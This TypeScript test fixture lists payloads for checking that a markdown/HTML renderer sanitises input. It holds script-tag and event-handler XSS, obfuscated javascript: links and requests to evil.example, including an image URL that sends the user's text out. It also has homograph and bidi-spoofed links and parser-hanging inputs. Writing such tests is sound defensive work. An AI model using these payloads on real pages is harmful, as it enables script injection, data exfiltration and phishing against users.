/**
 * Payloads that run a script, contact another host, spoof or hang when rendered carelessly. Scripts set
 * `window.stolen`; requests go to evil.example.
 */
const script = (number: number) => `<script>window.stolen = ${number}</script>`
const broken = (number: number) => `<img src=x onerror="window.stolen = ${number}">`

const html = [
  `${script(1)}<img src="https://evil.example/1.png" onerror="window.stolen = 2">`,
  '<svg onload="window.stolen = 3"><iframe src="https://evil.example/2" srcdoc="<script>parent.stolen = 4</script>"></iframe>',
  '<svg><animate onbegin=window.stolen=5 attributeName=x dur=1s><a xlink:href="javascript:window.stolen=6"><text>x</text></a><use href="https://evil.example/3.svg#a"/></svg>',
  '<math href="javascript:window.stolen=7"><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.stolen=8&gt;"></math>',
  '<base href="https://evil.example/"><a href="x">relative</a> [relative](elsewhere) [of this host](/elsewhere)',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/4"><meta http-equiv="Content-Security-Policy" content="script-src *">',
  '<form action="https://evil.example/5"><input autofocus onfocus="window.stolen = 9"><button formaction="javascript:window.stolen=10">Send</button></form>',
  '<style>@import "https://evil.example/6.css"; body { background: url(https://evil.example/7.png) }</style><link rel="stylesheet" href="https://evil.example/8.css">',
  '<div style="background: url(https://evil.example/9.png); position: fixed; inset: 0" onmouseover="window.stolen = 11">over everything</div>',
  '<img srcset="https://evil.example/10.png 1x"><picture><source srcset="https://evil.example/11.png"></picture><video poster="https://evil.example/12.png" src="https://evil.example/13.mp4" autoplay></video><object data="https://evil.example/14"></object><embed src="https://evil.example/15">',
  '<link rel="preload" as="image" href="https://evil.example/16.png"><link rel="dns-prefetch" href="//evil.example"><img src="//evil.example/17.png">',
  `<details open ontoggle="window.stolen = 12"><template>${script(13)}</template><noscript>${broken(14)}</noscript><!--${script(15)}--><![CDATA[${script(16)}]]>`,
]

const links = [
  '[one](javascript:window.stolen=20) [two]( JaVaScRiPt:window.stolen=21) [three](\u0001javascript:window.stolen=22)',
  '[four](data:text/html,<script>parent.stolen=23</script>) [five](vbscript:x) [six](java\tscript:window.stolen=24)',
  '[seven][reference] and <javascript:window.stolen=25> and [eight](<javascript:window.stolen=26>)\n\n[reference]: javascript:window.stolen=27',
  '[a](&#106;avascript:window.stolen=28) [b](java&Tab;script:window.stolen=29) [c](javascript&colon;window.stolen=30) [d](%6aavascript:window.stolen=31)',
  '[a](java\nscript:window.stolen=32) [b](\u00a0javascript:window.stolen=33) [c](java\u200bscript:window.stolen=34) [d](\\javascript:window.stolen=35) [e](feed:javascript:window.stolen=36)',
  '[a](DATA:text/html;base64,PHNjcmlwdD4=) [b](blob:https://evil.example/x) [c](file:///etc/passwd) [d](about:blank) [e](intent://x#Intent;end) [f](tel:*%2306%23) [g](ws://evil.example) [h](view-source:https://evil.example)',
  '[a](https://example.com "x" onmouseover="window.stolen=37") [b](https://example.com/"onclick=window.stolen=38//) <https://example.com/"onclick=window.stolen=39>',
  `<data:text/html,x> https://example.com/${script(40)} http://[::1 https://% https:// HTTPS://EXAMPLE.COM mailto:javascript:x www.evil.example`,
  'https://good.example@evil.example/ https://good.example%40evil.example [https://bank.example](https://evil.example/bank) [protocol](//evil.example/p)',
  '[broken](https://example.com/never-closed',
  '[https://\u0440\u0430\u0443\u0440\u0430l.com](https://\u0440\u0430\u0443\u0440\u0430l.com/login) and https://\u0430\u0440\u0440\u04cf\u0435.com/',
]

const images = [
  '![a remote picture](https://evil.example/20.png) and ![inline](data:image/svg+xml,<svg/onload=alert(4)>)',
  '![](https://evil.example/collect?said=what-you-said) ![by reference][picture]\n\n[picture]: https://evil.example/21.png "title"',
  '[![a picture in a link](https://evil.example/22.png)](javascript:window.stolen=41) ![[a link in a picture](https://evil.example/23)](https://evil.example/24.png)',
]

const markup = [
  '[bold **and [nested](https://example.com/n) link](https://example.com/o) `code ~~strike **[a**](javascript:window.stolen=42)](https://example.com)',
  `\`\`\`html\n${script(43)}\n${broken(44)}\n\`\`\`\nafter \`${script(45)}\``,
  `\`\`\`"><img src=x onerror=window.stolen=46>\n${script(47)}\n`,
  `| ${script(48)} | [a](javascript:window.stolen=49) |\n|---|---|\n| ${broken(50)} | ![b](https://evil.example/25.png) |\n| \u202ec | d |`,
  `# ${broken(51)}\n- [x] ${script(52)}\n1. [a](javascript:window.stolen=53)\n99999999999999999999. <b onclick="window.stolen = 54">b</b>\n> ${broken(55)}`,
]

const appearance = [
  '[paypal\u202ecilbup\u202c](https://evil.example/26) then \u202ereversed to the end',
  '\u2066\u2067\u202enever closed `a\u202eb` **c\u2067d**\n\n- \u202eitem',
  '[pay\u200bpal.com](https://evil.example/zero\u200b\u2060\ufeff) java\u200dscript\u00ad: \u034f\u061c\u180e \u{e0041}\u{e007f}',
  'Z\u0351\u036b\u0343\u036a\u0302\u0350'.repeat(200),
]

const size = [
  `${'x'.repeat(20_000)} https://example.com/${'a'.repeat(20_000)} ${'\u202e'.repeat(2000)}`,
  `${'> '.repeat(20_000)}deep\n\n${'- '.repeat(1000)}deep`,
  Array.from({ length: 120 }, (_, level) => `${'  '.repeat(level)}- level ${level}`).join('\n'),
  `${'*'.repeat(1000)}a${'_'.repeat(1000)} ${'['.repeat(1000)} ${'[a]('.repeat(500)} ${'![['.repeat(300)} ${'**a _b '.repeat(300)}${'`'.repeat(999)}`,
]

const signs = [
  'a\u0000b &#0; &lt;script&gt;window.stolen=60&lt;/script&gt; &amp;lt; \u0007\u001b[31m \ufffe',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: somebody may take it for a template
  "__proto__ constructor [__proto__](constructor) [toString][hasOwnProperty] {{constructor.constructor('window.stolen=61')()}} ${window.stolen=62} #{7*7} <%= 7*7 %> $& $1 $` %s \\u0000",
]

export const payloads: readonly string[] = [
  ...html,
  ...links,
  ...images,
  ...markup,
  ...appearance,
  ...size,
  ...signs,
]
